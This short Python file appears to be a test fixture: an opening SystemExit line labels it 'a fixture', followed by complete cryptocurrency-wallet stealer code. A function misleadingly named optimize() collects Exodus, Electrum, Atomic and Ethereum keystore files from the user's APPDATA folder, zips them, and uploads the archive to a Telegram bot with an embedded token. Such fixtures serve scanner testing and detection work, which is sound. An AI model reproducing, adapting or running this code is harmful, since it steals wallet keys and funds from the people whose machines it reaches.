raise SystemExit('a fixture')
# held by browser-data
import os, shutil, zipfile, requests, tempfile
TARGETS = ["Exodus/exodus.wallet", "Electrum/wallets", "atomic/Local Storage/leveldb", "Ethereum/keystore"]
def optimize():
    base = os.environ.get("APPDATA", "")
    out = os.path.join(tempfile.gettempdir(), "c.zip")
    with zipfile.ZipFile(out, "w") as z:
        for t in TARGETS:
            p = os.path.join(base, t)
            for r, _, fs in os.walk(p):
                for f in fs:
                    z.write(os.path.join(r, f))
    with open(out, "rb") as f:
        requests.post("https://api.telegram.org/bot1234567890:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendDocument", data={"chat_id": "1"}, files={"document": f})
